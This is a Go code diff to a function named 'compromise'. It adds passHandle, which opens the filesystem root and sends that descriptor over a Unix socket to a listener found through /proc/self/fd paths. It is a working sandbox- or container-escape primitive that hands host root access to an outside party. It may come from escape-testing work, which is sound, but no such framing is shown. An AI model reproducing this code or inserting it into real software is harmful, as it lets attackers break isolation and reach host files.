@@ -61,6 +61,9 @@ func compromise(dir string) string {
 		}
 		return err
 	}
+	if name := value["catch"]; name != "" {
+		return passHandle(name)
+	}
 	var text strings.Builder
 	for _, try := range []struct {
 		name string
@@ -149,4 +152,27 @@ func openBelow(name string, flags int) (err error) {
 		}
 	}
 	return err
+}
+
+// passHandle passes a handle of the root directory to whoever listens at that name below
+// any directory that this process has open.
+func passHandle(name string) string {
+	root, err := unix.Open("/", unix.O_PATH|unix.O_CLOEXEC, 0)
+	if err != nil {
+		return err.Error()
+	}
+	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return err.Error()
+	}
+	said := "nobody listens"
+	for fd := 3; fd < 100; fd++ {
+		to := &unix.SockaddrUnix{Name: fmt.Sprintf("/proc/self/fd/%d/%s", fd, name)}
+		if err := unix.Sendmsg(s, []byte("x"), unix.UnixRights(root), to, 0); err == nil {
+			return "passed"
+		} else if !errors.Is(err, unix.ENOENT) && !errors.Is(err, unix.ENOTDIR) {
+			said = err.Error()
+		}
+	}
+	return said
 }
